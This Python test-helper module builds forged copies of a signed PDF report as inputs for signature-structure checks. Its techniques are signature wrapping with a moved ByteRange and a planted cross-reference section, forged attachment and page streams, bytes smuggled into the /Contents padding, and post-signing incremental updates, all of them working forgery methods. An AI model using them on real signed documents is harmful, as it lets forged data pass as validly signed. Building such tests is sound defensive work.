"""Forgeries built from one genuine signed report, the way an attacker would build them.

Each function takes the bytes of a validly signed report and returns a file that keeps the
signed bytes (so the CMS signature still matches) while trying to make a verifier report other
data. They are the test inputs of the structural checks in reports.signing.structure.
"""

from __future__ import annotations

import io
import re
from dataclasses import dataclass
from typing import Any

_XREF_LINE = 20  # a classic cross-reference entry is always 20 bytes


@dataclass(frozen=True)
class SignedLayout:
    """Where the parts of a signed report sit: ByteRange, signature object, last xref."""

    a: int
    b: int
    length2: int
    sig_object: int
    xref_at: int


def layout(data: bytes) -> SignedLayout:
    """The genuine report's signature layout (the first signature, classic xref table)."""
    from pyhanko.pdf_utils.reader import PdfFileReader

    sig = PdfFileReader(io.BytesIO(data)).embedded_regular_signatures[0]
    _, a, b, length2 = (int(v) for v in sig.byte_range)
    ref = sig.sig_field.raw_get("/V")
    xref_at = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    return SignedLayout(a, b, length2, ref.idnum, xref_at)


def attachment_objects(data: bytes) -> dict[str, int]:
    """Object number of each embedded file stream, by attachment name."""
    from pyhanko.pdf_utils.reader import PdfFileReader

    reader = PdfFileReader(io.BytesIO(data))
    names = reader.root["/Names"]["/EmbeddedFiles"]["/Names"]
    found = {}
    for i in range(0, len(names), 2):
        spec = names[i + 1].get_object()
        found[str(names[i])] = spec["/EF"].raw_get("/F").idnum
    return found


def _xref_entries(data: bytes, at: int) -> tuple[dict[int, tuple[int, int, bytes]], bytes]:
    """The entries of the classic xref section at ``at`` and its trailer dictionary text."""
    end = data.index(b"trailer", at)
    lines = data[at:end].split(b"\n")[1:]
    entries: dict[int, tuple[int, int, bytes]] = {}
    i = 0
    while i < len(lines) and lines[i].strip():
        start, count = (int(v) for v in lines[i].split())
        for k in range(count):
            offset, gen, kind = lines[i + 1 + k].split()
            entries[start + k] = (int(offset), int(gen), kind)
        i += count + 1
    trailer = data[end + len(b"trailer") : data.index(b"startxref", end)]
    return entries, trailer.strip()


def _xref_section(entries: dict[int, tuple[int, int, bytes]], trailer: bytes) -> bytes:
    out = [b"xref"]
    for num in sorted(entries):
        offset, gen, kind = entries[num]
        out.append(b"%d 1" % num)
        out.append(b"%010d %05d %s \n" % (offset, gen, kind))
    body = b"\n".join(
        line.rstrip(b"\n") if not line.endswith(b" \n") else line[:-1] for line in out
    )
    return body + b"\ntrailer\n" + trailer + b"\n"


def _stream_object(num: int, payload: bytes) -> bytes:
    head = b"%d 0 obj\n<< /Type /EmbeddedFile /Subtype /application#2Fjson /Length %d >>\nstream\n"
    return head % (num, len(payload)) + payload + b"\nendstream\nendobj\n"


def wrap_signature(
    data: bytes, forged: dict[str, bytes], *, fake_page: bytes | None = None
) -> bytes:
    """Signature wrapping: range 2 moved later, a new xref at the signed ``startxref`` offset.

    The gap between the ranges grows; at the offset the signed trailer's ``startxref`` names
    (now inside the gap) the attacker writes a cross-reference section that points every
    object of the signing revision at its moved copy, the signature object at a copy whose
    /ByteRange names the moved range, and the attachments in ``forged`` at forged streams.
    The file length still equals range 1 + gap + range 2.
    """
    lay = layout(data)
    n = lay.b + lay.length2
    assert n == len(data), "wrap a report without later updates"
    entries, trailer = _xref_entries(data, lay.xref_at)
    objects = attachment_objects(data)
    sig_text = _object_text(data, lay.sig_object)
    extra: list[tuple[int, bytes]] = [
        (objects[name], _stream_object(objects[name], payload)) for name, payload in forged.items()
    ]
    if fake_page is not None:
        extra.append(fake_page_object(data, fake_page))
    pad = lay.xref_at - lay.b
    gap = lay.b - lay.a
    der = bytes.fromhex(data[lay.a + 1 : lay.b - 1].decode("ascii"))

    def build(shift: int) -> tuple[bytes, int]:
        """The enlarged gap for a move of ``shift`` bytes, and how many filler bytes it needs."""
        moved = {k: ((o + shift) if o >= lay.b else o, g, t) for k, (o, g, t) in entries.items()}
        placeholders = {num: (0, 0, b"n") for num, _ in extra}
        xref_len = len(
            _xref_section({**moved, **placeholders, lay.sig_object: (0, 0, b"n")}, trailer)
        )
        at = lay.xref_at + xref_len
        # pyHanko compares the file length with 2 x len(/Contents) + 2: a literal string
        # carrying the enlarged, zero-padded contents makes the sums agree.
        contents = der + bytes((gap + shift - 2) // 2 - len(der))
        new_sig = re.sub(
            rb"/ByteRange \[[^\]]*\]",
            b"/ByteRange [0 %d %d %d]" % (lay.a, lay.b + shift, lay.length2),
            sig_text,
        )
        new_sig = re.sub(
            rb"/Contents <[0-9A-Fa-f]*>",
            lambda _m: b"/Contents (" + _literal(contents) + b")",
            new_sig,
        )
        body = b""
        for num, text in [*extra, (lay.sig_object, new_sig)]:
            moved[num] = (at + len(body), 0, b"n")
            body += text
        section = _xref_section(moved, trailer)
        assert len(section) == xref_len
        return b" " * (pad - 1) + b"\n" + section + body, shift - (pad + len(section) + len(body))

    shift = gap + 2
    middle, room = build(shift)
    while room < 1:
        shift += 2 * (1 - room) + 2
        middle, room = build(shift)
    return data[: lay.b] + middle + b" " * (room - 1) + b"\n" + data[lay.b : n]


def _literal(raw: bytes) -> bytes:
    return (
        raw.replace(b"\\", b"\\\\")
        .replace(b"(", b"\\(")
        .replace(b")", b"\\)")
        .replace(b"\r", b"\\r")
    )


def _object_text(data: bytes, num: int) -> bytes:
    """The text of object ``num`` as the signed file has it (its last definition)."""
    start = data.rfind(b"\n%d 0 obj" % num) + 1
    end = data.index(b"endobj", start) + len(b"endobj\n")
    return data[start:end]


def fake_page_object(data: bytes, text: bytes) -> tuple[int, bytes]:
    """A replacement content stream for the first page, drawing ``text``."""
    from pyhanko.pdf_utils.reader import PdfFileReader

    reader = PdfFileReader(io.BytesIO(data))
    page = reader.root["/Pages"]["/Kids"][0].get_object()
    ref = page.raw_get("/Contents")
    if not hasattr(ref, "idnum"):
        ref = ref[0]
    content = b"BT /F1 24 Tf 72 700 Td (" + text + b") Tj ET"
    return ref.idnum, b"%d 0 obj\n<< /Length %d >>\nstream\n" % (ref.idnum, len(content)) + (
        content + b"\nendstream\nendobj\n"
    )


def gap_bytes(data: bytes, payload: bytes) -> bytes:
    """Arbitrary bytes after the DER signature, inside the /Contents hex string (hex-encoded)."""
    lay = layout(data)
    gap = data[lay.a : lay.b]
    hex_payload = payload.hex().upper().encode("ascii")
    zeros = gap.rstrip(b">").rstrip(b"0")
    # Keep the DER intact: overwrite only the zero padding near the end of the string.
    start = len(gap) - 1 - len(hex_payload) - 2
    assert start > len(zeros), "payload too long for the padding"
    changed = gap[:start] + hex_payload + gap[start + len(hex_payload) :]
    return data[: lay.a] + changed + data[lay.b :]


def raw_gap_bytes(data: bytes, payload: bytes) -> bytes:
    """Non-hex bytes in the gap: the hex string closed early and ``payload`` written after it
    (spaces keep the length, so the ByteRange still fits)."""
    lay = layout(data)
    gap = data[lay.a : lay.b]
    end = len(gap) - len(payload) - 4
    changed = gap[:end] + b"> " + payload + b" " * (len(gap) - end - 2 - len(payload))
    assert len(changed) == len(gap)
    return data[: lay.a] + changed + data[lay.b :]


def rewrite_byte_range(data: bytes, values: tuple[int, int, int, int]) -> bytes:
    """The ByteRange text rewritten in place (same length): shifted or stretched ranges."""
    found = list(re.finditer(rb"/ByteRange \[[^\]]*\]\s*", data))[-1]
    new = b"/ByteRange [%d %d %d %d]" % values
    new = new + b" " * (len(found.group(0)) - len(new))
    return data[: found.start()] + new + data[found.end() :]


def append_update(data: bytes, forged: dict[str, bytes] | None = None, **changes: Any) -> bytes:
    """An incremental update after the signature (forged attachments, or /Info only)."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    writer = IncrementalPdfFileWriter(io.BytesIO(data))
    if forged:
        from tests.reports.signing.signing_helpers import embed

        return embed(data, forged)
    info = writer.trailer["/Info"].get_object() if "/Info" in writer.trailer else None
    if info is not None:
        for key, value in changes.items():
            info[generic.NameObject("/" + key)] = generic.TextStringObject(value)
        writer.mark_update(writer.trailer.raw_get("/Info"))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()
